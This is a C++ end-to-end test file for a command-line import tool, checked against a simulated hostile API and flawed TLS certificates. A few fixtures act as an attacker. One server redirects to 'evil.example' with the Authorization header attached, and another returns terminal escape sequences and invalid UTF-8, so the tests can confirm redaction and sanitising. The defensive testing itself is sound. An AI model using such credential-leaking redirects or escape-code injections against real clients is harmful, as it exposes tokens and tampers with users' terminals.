// End-to-end, against a hostile API (tests/hostile_server.h) and broken
// certificates: the real binary must end each case with the documented exit
// code, a message that says what happened, a complete report, and never the
// token or a byte that a terminal or spreadsheet would act on. Issue 7's
// items are named where they are shown. `ctest -L hostile` runs these.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <atomic>
#include <cstdio>
#include <nlohmann/json.hpp>
#include <sstream>

#include "hostile_server.h"
#include "prospect_import/text.h"
#include "report_reader.h"
#include "sandbox_fixture.h"
#include "test_util.h"

namespace prospect_import {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using testing::ChildProcess;
using ::testing::HasSubstr;
using testing::HostileConnection;
using testing::HostileRequest;
using testing::HostileServer;
using testing::http_answer;
using testing::listing_page;
using ::testing::Not;
using testing::read_file;
using testing::read_report;
using testing::RunResult;
using testing::TempDir;
using testing::write_file;

using Env = std::map<std::string, std::string>;

constexpr const char* k_sid = "IRhostile01";
// '/', '+' and '=' make each encoded form of the token differ from the others.
constexpr const char* k_token = "tok/Zq8+rW3=never";
// base64("IRhostile01:tok/Zq8+rW3=never"): what Authorization: Basic carries.
constexpr const char* k_basic = "SVJob3N0aWxlMDE6dG9rL1pxOCtyVzM9bmV2ZXI=";
constexpr auto k_run_limit = std::chrono::seconds(60);

const std::string k_groups_path = "/Advertisers/IRhostile01/Campaigns/1001/MediaPartnerGroups";
const std::string k_first_page = k_groups_path + "?Page=1&PageSize=1000";
const std::string k_too_large =
    "the answer is larger than 4 MiB, so the tool stopped reading it (not an answer of the API: "
    "check --api-base)";

// One valid row, on line 2.
const std::string k_one_row =
    "Partner Name,Contact Email,Media Property\nAcme Media,bob@acme-media.com,acme-media.com\n";

Env credentials() {
  Env env = testing::base_environment();
  env["IMPACT_ACCOUNT_SID"] = k_sid;
  env["IMPACT_AUTH_TOKEN"] = k_token;
  env["IMPACT_PROGRAM_ID"] = "1001";
  return env;
}

// A test's folder: the input file p.csv and the report folder `report`.
class Work {
 public:
  explicit Work(const std::string& csv = k_one_row) { write_file(m_dir / "p.csv", csv); }
  const fs::path& dir() const { return m_dir.path(); }
  fs::path report() const { return m_dir / "report"; }
  json summary() const { return json::parse(read_file(report() / "summary.json")); }
  std::vector<testing::Row> errors() const { return read_report(report() / "errors.csv"); }
  std::vector<testing::Row> successes() const { return read_report(report() / "success.csv"); }

  // prospect-import --api-base BASE --report-dir REPORT [extra...] p.csv, stopped after 60 s.
  RunResult run(const std::string& base, std::vector<std::string> extra = {}) const {
    std::vector<std::string> args{"--api-base", base, "--report-dir", report().string()};
    args.insert(args.end(), extra.begin(), extra.end());
    args.push_back((m_dir / "p.csv").string());
    Env env = credentials();
    env["XDG_STATE_HOME"] =
        (m_dir / "state").string();  // what the tool keeps between runs stays here
    ChildProcess tool(ChildProcess::Spec{PI_BINARY, args, env, m_dir / "out", m_dir / "err"});
    const auto code = tool.wait(k_run_limit);
    EXPECT_TRUE(code.has_value()) << "prospect-import still running after 60 s";
    return RunResult{code.value_or(-1), read_file(m_dir / "out"),
                     testing::without_log_timestamps(read_file(m_dir / "err"))};
  }

 private:
  TempDir m_dir;
};

// The first line of standard error, with its '\n': the error of a run that stopped before sending.
std::string first_line(const std::string& err) { return err.substr(0, err.find('\n') + 1); }

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

using CreateHandler = std::function<void(const HostileRequest&, HostileConnection&)>;

// An API whose program has no groups (one page) and whose creates `on_create` answers.
HostileServer::Handler api(CreateHandler on_create) {
  return [on_create](const HostileRequest& r, HostileConnection& c) {
    if (r.target.starts_with(k_groups_path)) {
      c.write(http_answer(200, listing_page("Groups", {}, "0", "")));
    } else {
      on_create(r, c);
    }
  };
}

// A listing whose pages `page_answer(n)` gives; creates are never reached.
HostileServer::Handler groups_pages(std::function<std::string(int page)> page_answer) {
  return [page_answer](const HostileRequest& r, HostileConnection& c) {
    auto at = r.target.find("Page=");
    c.write(page_answer(at == std::string::npos ? 1 : std::stoi(r.target.substr(at + 5))));
  };
}

std::string page_uri(int n) {
  return k_groups_path + "?Page=" + std::to_string(n) + "&PageSize=1000";
}

std::string created(const std::string& id) {
  return http_answer(201, json{{"Status", "OK"},
                               {"ProspectId", id},
                               {"DryRun", false},
                               {"MatchedPartnerId", ""},
                               {"MatchedPartnerName", ""}}
                              .dump());
}

std::string conflict(const std::string& id) {
  return http_answer(409,
                     json{{"Status", "ERROR"}, {"Message", "Conflict"}, {"ProspectId", id}}.dump());
}

// The one row was not attempted, for `why`; the summary says so.
void expect_not_attempted(const Work& work, const std::string& why) {
  auto errors = work.errors();
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(errors[0].at("Row"), "2");
  EXPECT_EQ(errors[0].at("Error"), "not attempted: " + why);
  EXPECT_EQ(work.summary()["not_attempted"], 1);
}

// The one row failed after its attempts, with `error`; not rejected.
void expect_failed(const Work& work, const std::string& error) {
  auto errors = work.errors();
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(errors[0].at("Error"), error);
  auto s = work.summary();
  EXPECT_EQ(s["failed"], 1);
  EXPECT_EQ(s["rejected"], 0);
  EXPECT_EQ(s["exit_code"], 1);
}

// The one row is `created` with this Prospect ID.
void expect_created(const Work& work, const std::string& prospect_id) {
  auto success = work.successes();
  ASSERT_EQ(success.size(), 1u);
  EXPECT_EQ(success[0].at("Status"), "created");
  EXPECT_EQ(success[0].at("Prospect ID"), prospect_id);
  EXPECT_EQ(work.summary()["created"], 1);
}

// --- item 1: what is read of an answer is capped ---

TEST(Hostile, AHugeListingPageStopsTheRunNamingTheCause) {
  HostileServer server([](const HostileRequest&, HostileConnection& c) {
    if (!c.write("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
                 "2147483648\r\n\r\n"))
      return;
    const std::string block(0x10000, '[');
    while (c.write(block)) {
    }
  });
  Work work;
  auto r = work.run(server.base_url(), {"--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 69) << r.err;
  const std::string why =
      "no usable answer to GET " + server.base_url() + k_first_page + ": " + k_too_large;
  EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
  expect_not_attempted(work, why);
}

TEST(Hostile, AnEndlessCreateAnswerFailsTheRowAsTransient) {
  HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: "
                 "chunked\r\n\r\n")) {
      return;
    }
    const std::string chunk = "10000\r\n" + std::string(0x10000, ' ') + "\r\n";
    while (c.write(chunk)) {
    }
  }));
  Work work;
  auto r = work.run(server.base_url(), {"--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  expect_failed(work, "failed: failed after 1 attempts: " + k_too_large);
  EXPECT_THAT(r.err, HasSubstr((work.dir() / "p.csv").string() +
                               ":2: failed: failed after 1 attempts: " + k_too_large + "\n"));
}

// --- slow servers end with --timeout ---

TEST(Hostile, SlowHeadersOnTheListingTimeOut) {
  HostileServer server([](const HostileRequest&, HostileConnection& c) { c.hold(); });
  Work work;
  auto r = work.run(server.base_url(), {"--timeout", "1", "--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 69) << r.err;
  const std::string why =
      "no usable answer to GET " + server.base_url() + k_first_page + ": Timeout was reached";
  EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
  expect_not_attempted(work, why);
}

TEST(Hostile, ATricklingCreateAnswerTimesOut) {
  HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
    if (!c.write("HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: "
                 "chunked\r\n\r\n")) {
      return;
    }
    while (c.write("1\r\n \r\n") && c.pause(std::chrono::milliseconds(100))) {
    }
  }));
  Work work;
  auto r = work.run(server.base_url(), {"--timeout", "1", "--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  expect_failed(work, "failed: failed after 1 attempts: Timeout was reached");
}

// --- item 6: listings that would never end ---

TEST(Hostile, APageThatPointsBackToItselfEndsTheListing) {
  HostileServer server(groups_pages([](int) {
    return http_answer(200, listing_page("Groups", {{"1", "Bloggers"}}, "1", page_uri(1)));
  }));
  Work work;
  auto r = work.run(server.base_url());
  EXPECT_EQ(r.exit_code, 69) << r.err;
  const std::string why = "the API's listing of Groups loops: page 1 points back to " +
                          server.base_url() + k_first_page + ", which was read already";
  EXPECT_EQ(first_line(r.err), "error: " + why + "\n");
  EXPECT_EQ(server.requests().size(), 1u);
  expect_not_attempted(work, why);
}

TEST(Hostile, ALaterPageThatPointsBackEndsTheListing) {
  HostileServer server(groups_pages([](int page) {
    return http_answer(
        200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "3",
                          page_uri(page == 3 ? 2 : page + 1)));
  }));
  Work work;
  auto r = work.run(server.base_url());
  EXPECT_EQ(r.exit_code, 69) << r.err;
  EXPECT_EQ(first_line(r.err), "error: the API's listing of Groups loops: page 3 points back to " +
                                   server.base_url() + page_uri(2) + ", which was read already\n");
  EXPECT_EQ(server.requests().size(), 3u);
}

TEST(Hostile, MorePagesThanNumpagesPromisedEndTheListing) {
  HostileServer server(groups_pages([](int page) {
    return http_answer(
        200, listing_page("Groups", {{std::to_string(page), "G" + std::to_string(page)}}, "2",
                          page_uri(page + 1)));
  }));
  Work work;
  auto r = work.run(server.base_url());
  EXPECT_EQ(r.exit_code, 69) << r.err;
  EXPECT_EQ(first_line(r.err),
            "error: the API's listing of Groups goes on past the 2 pages its @numpages promised "
            "(page 2 points to " +
                server.base_url() + page_uri(3) + ")\n");
  EXPECT_EQ(server.requests().size(), 2u);
}

// --- item 10: messages that say what happened ---

TEST(Hostile, A404OnPage2IsNotAMissingProgram) {
  HostileServer server(groups_pages([](int page) {
    if (page == 1)
      return http_answer(200, listing_page("Groups", {{"1", "Bloggers"}}, "2", page_uri(2)));
    return http_answer(404, R"({"Status": "ERROR", "Message": "Not Found"})");
  }));
  Work work;
  auto r = work.run(server.base_url());
  EXPECT_EQ(r.exit_code, 69) << r.err;
  EXPECT_EQ(first_line(r.err),
            "error: the API answered 404: Not Found to page 2 of the listing of Groups (GET " +
                server.base_url() + page_uri(2) +
                "): the listing changed while it was read, or its @nextpageuri is wrong; "
                "try again\n");
  EXPECT_THAT(r.err, Not(HasSubstr("does not exist")));
}

TEST(Hostile, ARedirectSaysWhereItPointsAndIsNotFollowed) {
  HostileServer server([](const HostileRequest& r, HostileConnection& c) {
    c.write(http_answer(
        302, "",
        {{"Location", "http://evil.example/collect?auth=" + r.headers.at("authorization")}}));
  });
  Work work;
  auto r = work.run(server.base_url());
  EXPECT_EQ(r.exit_code, 69) << r.err;
  EXPECT_EQ(first_line(r.err),
            "error: the API answered 302, a redirect to \"http://evil.example/collect?auth=Basic "
            "[redacted]\" that "
            "is not followed (check --api-base) to GET " +
                server.base_url() + k_first_page + "\n");
  EXPECT_EQ(server.requests().size(), 1u);
}

TEST(Hostile, ARateLimitWaitWhileLoadingGroupsIsSaid) {
  std::atomic<int> asked{0};
  HostileServer server([&asked](const HostileRequest&, HostileConnection& c) {
    if (asked++ == 0) {
      c.write(http_answer(429, R"({"Status": "ERROR", "Message": "Too Many Requests"})",
                          {{"X-RateLimit-Limit", "1000"},
                           {"X-RateLimit-Remaining", "0"},
                           {"X-RateLimit-Reset", "1"}}));
    } else {
      c.write(http_answer(200, listing_page("Groups", {}, "0", "")));
    }
  });
  Work work("Partner Name,Contact Email,Media Property\n");
  auto r = work.run(server.base_url(), {"-v"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(lines_of(r.err),
              ::testing::Contains("the API answered 429 (too many requests): waiting 1s for its "
                                  "rate limit before page 1 of the listing of Groups"));
}

// --- item 11: answers of the wrong shape may have been committed ---

// A first answer `first` to the create, then 409 naming P-9: the row is `created`.
void expect_settled_by_a_conflict(const std::string& first) {
  std::atomic<int> creates{0};
  HostileServer server(api([&](const HostileRequest&, HostileConnection& c) {
    c.write(creates++ == 0 ? first : conflict("P-9"));
  }));
  Work work;
  auto r = work.run(server.base_url(), {"--max-retries", "1"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  expect_created(work, "P-9");
  EXPECT_EQ(work.summary()["retries"], 1);
  EXPECT_EQ(creates.load(), 2);
}

TEST(Hostile, A201WithoutProspectIdIsRetriedAndA409SettlesIt) {
  expect_settled_by_a_conflict(http_answer(201, R"({"Status": "OK", "DryRun": false})"));
}

TEST(Hostile, A200HtmlPageToACreateIsRetriedAndA409SettlesIt) {
  expect_settled_by_a_conflict(
      http_answer(200, "<html><body>Welcome</body></html>", {{"Content-Type", "text/html"}}));
}

TEST(Hostile, A200HtmlPageToACreateIsAFailureNotARejection) {
  HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
    c.write(http_answer(200, "<html><body>Welcome</body></html>", {{"Content-Type", "text/html"}}));
  }));
  Work work;
  auto r = work.run(server.base_url(), {"--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  expect_failed(
      work,
      "failed: failed after 1 attempts: the API answered 200 with a body that is not JSON: "
      "\"<html><body>Welcome</body></html>\"");
}

TEST(Hostile, A201WithoutProspectIdIsNeverCreatedWithAnEmptyId) {
  HostileServer server(api([](const HostileRequest&, HostileConnection& c) {
    c.write(http_answer(201, R"({"Status": "OK", "ProspectId": ""})"));
  }));
  Work work;
  auto r = work.run(server.base_url(), {"--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  expect_failed(work, "failed: failed after 1 attempts: the API answered 201 without a ProspectId");
  EXPECT_TRUE(work.successes().empty());
}

// --- item 8: server text is cleaned and the token redacted ---

enum class HexCase { upper, lower };

std::string percent_encoded(const std::string& in, HexCase hex_case = HexCase::upper) {
  std::string out;
  for (unsigned char c : in) {
    if (std::isalnum(c)) {
      out += static_cast<char>(c);
    } else {
      char hex[4];
      std::snprintf(hex, sizeof hex, hex_case == HexCase::upper ? "%%%02X" : "%%%02x", c);
      out += hex;
    }
  }
  return out;
}

// The token in every form the redaction test looks for.
std::vector<std::string> secret_forms() {
  const std::string pair = std::string(k_sid) + ":" + k_token;
  std::vector<std::string> forms;
  for (const std::string& raw : {std::string(k_token), pair, std::string(k_basic)}) {
    forms.push_back(raw);
    forms.push_back(percent_encoded(raw));
    forms.push_back(percent_encoded(raw, HexCase::lower));
  }
  return forms;
}

// Echoes the request's head (with its Authorization) and its percent-encoded
// form: in a 400's JSON Message, a 500's page, and a 302's Location and body.
void echo(const HostileRequest& r, HostileConnection& c) {
  const std::string echoed =
      r.head + "\r\nencoded: " + percent_encoded(r.headers.at("authorization"));
  if (r.body.find("ContactEmail=a%40") != std::string::npos) {
    c.write(http_answer(400, json{{"Status", "ERROR"}, {"Message", "you sent: " + echoed}}.dump()));
  } else if (r.body.find("ContactEmail=b%40") != std::string::npos) {
    c.write(http_answer(500, "<pre>" + echoed + "</pre>", {{"Content-Type", "text/html"}}));
  } else {
    c.write(http_answer(302, echoed,
                        {{"Location", "http://evil.example/?auth=" +
                                          percent_encoded(r.headers.at("authorization"))}}));
  }
}

TEST(Hostile, TheTokenIsInNoOutputReportOrJournal) {
  HostileServer server(api(echo));
  Work work(
      "Partner Name,Contact Email,Media Property\n"
      "A,a@example.com,a.example\n"
      "B,b@example.com,b.example\n"
      "C,c@example.com,c.example\n");
  // Twice, so that a report the second run replaces (history/) is searched too.
  EXPECT_EQ(work.run(server.base_url(), {"-v", "--max-retries", "0", "--json"}).exit_code, 1);
  auto r = work.run(server.base_url(), {"-v", "--max-retries", "0", "--json"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  auto errors = work.errors();
  ASSERT_EQ(errors.size(), 3u);
  EXPECT_THAT(errors[0].at("Error"),
              ::testing::StartsWith("the API answered 400: you sent: POST "));
  EXPECT_THAT(errors[0].at("Error"), HasSubstr(" Authorization: Basic [redacted] "));
  EXPECT_THAT(errors[1].at("Error"),
              ::testing::StartsWith(
                  "failed: failed after 1 attempts: the API answered 500 with a body that is not "
                  "JSON: \"<pre>POST "));
  EXPECT_EQ(errors[2].at("Error"),
            "the API answered 302, a redirect to \"http://evil.example/?auth=Basic%20[redacted]\" "
            "that is not followed "
            "(check --api-base)");
  ASSERT_FALSE(server.requests().empty());
  for (const auto& secret : secret_forms()) {
    SCOPED_TRACE(secret);
    EXPECT_THAT(r.out, Not(HasSubstr(secret)));
    EXPECT_THAT(r.err, Not(HasSubstr(secret)));
    int files = 0;
    // The report folder, and all the tool keeps elsewhere (XDG_STATE_HOME).
    for (const auto& f : fs::recursive_directory_iterator(work.dir())) {
      if (!f.is_regular_file()) continue;
      ++files;
      EXPECT_THAT(read_file(f.path()), Not(HasSubstr(secret))) << f.path();
    }
    EXPECT_GE(files, 4 + 2) << "the three reports, the journal, stdout and stderr";
  }
}

// True when s holds a control character other than the CR LF that end a
// report's lines and the tab that separates a journal record from its checksum.
bool has_stray_control(const std::string& s) {
  for (unsigned char c : s) {
    if ((c < 0x20 && c != '\r' && c != '\n' && c != '\t') || c == 0x7F) return true;
  }
  return false;
}

TEST(Hostile, EscapeCodesNulAndInvalidUtf8NeverReachTheTerminalOrTheReports) {
  HostileServer server(api([](const HostileRequest& r, HostileConnection& c) {
    if (r.body.find("ContactEmail=a%40") != std::string::npos) {
      c.write(http_answer(
          400, R"({"Status": "ERROR", "Message": "x",)"
               R"( "Errors": [{"Field": "ContactEmail", "Message": "\u001b]0;pwned\u0007)"
               R"(\u001b[2Jbad\u0000 address\u009b"}]})"));
    } else {
      c.write(http_answer(500, std::string("<h1>\x1b[31mdown\0\xff\xfe!</h1>", 22),
                          {{"Content-Type", "text/html"}}));
    }
  }));
  Work work(
      "Partner Name,Contact Email,Media Property\n"
      "A,a@example.com,a.example\n"
      "B,b@example.com,b.example\n");
  auto r = work.run(server.base_url(), {"-v", "--max-retries", "0"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  auto errors = work.errors();
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].at("Error"), "Contact Email: ]0;pwned[2Jbad address");
  EXPECT_EQ(errors[1].at("Error"),
            "failed: failed after 1 attempts: the API answered 500 with a body that is not "
            "JSON: \"<h1>[31mdown\xEF\xBF\xBD\xEF\xBF\xBD!</h1>\"");
  EXPECT_FALSE(has_stray_control(r.err));
  for (const auto& f : fs::recursive_directory_iterator(work.report())) {
    if (!f.is_regular_file()) continue;
    const std::string content = read_file(f.path());
    EXPECT_FALSE(has_stray_control(content)) << f.path();
    EXPECT_TRUE(is_valid_utf8(content)) << f.path();
  }
}

// --- item 10: TLS and --cacert ---

class HostileTls : public ::testing::TestWithParam<testing::CertFlaw> {};

TEST_P(HostileTls, AFlawedCertificateWithCacertDoesNotAskForCacert) {
  TempDir certs;
  const auto tls = testing::make_tls_files(certs.path(), GetParam());
  testing::Sandbox sandbox({"--cert", tls.cert.string(), "--key", tls.key.string()});
  Work work;
  auto r = work.run(sandbox.base_url(), {"--cacert", tls.ca.string()});
  EXPECT_EQ(r.exit_code, 69) << r.err;
  const std::string detail =
      GetParam() == testing::CertFlaw::expired
          ? "SSL certificate problem: certificate has expired"
          : "SSL: no alternative certificate subject name matches target host name '127.0.0.1'";
  EXPECT_EQ(first_line(r.err),
            "error: cannot reach the API at " + sandbox.base_url() + ": " + detail +
                " (the server's certificate could not be verified with the CA of --cacert " +
                tls.ca.string() +
                ": it must be current, issued by that CA and name the host of --api-base)\n");
}

INSTANTIATE_TEST_SUITE_P(
    Flaws, HostileTls, ::testing::Values(testing::CertFlaw::expired, testing::CertFlaw::wrong_name),
    [](const auto& p) {
      return std::string(p.param == testing::CertFlaw::expired ? "expired" : "wrong_name");
    });

TEST(Hostile, AMissingCacertFileIsAConfigurationError) {
  HostileServer server(
      api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
  Work work;
  const std::string missing = (work.dir() / "missing.pem").string();
  auto r = work.run(server.base_url(), {"--cacert", missing});
  EXPECT_EQ(r.exit_code, 78) << r.err;
  EXPECT_EQ(first_line(r.err), "error: cannot read the CA bundle given with --cacert, " + missing +
                                   ": No such file or directory\n");
  EXPECT_TRUE(server.requests().empty());
}

TEST(Hostile, AGarbageCacertFileIsAConfigurationError) {
  HostileServer server(
      api([](const HostileRequest&, HostileConnection& c) { c.write(created("P-1")); }));
  Work work;
  const fs::path garbage = work.dir() / "garbage.pem";
  write_file(garbage, "this is not a certificate\n");
  auto r = work.run(server.base_url(), {"--cacert", garbage.string()});
  EXPECT_EQ(r.exit_code, 78) << r.err;
  EXPECT_EQ(first_line(r.err),
            "error: the CA bundle given with --cacert, " + garbage.string() +
                ", holds no certificate that can be read (it needs one or more PEM blocks "
                "\"-----BEGIN CERTIFICATE-----\")\n");
  EXPECT_TRUE(server.requests().empty());
}

}  // namespace
}  // namespace prospect_import
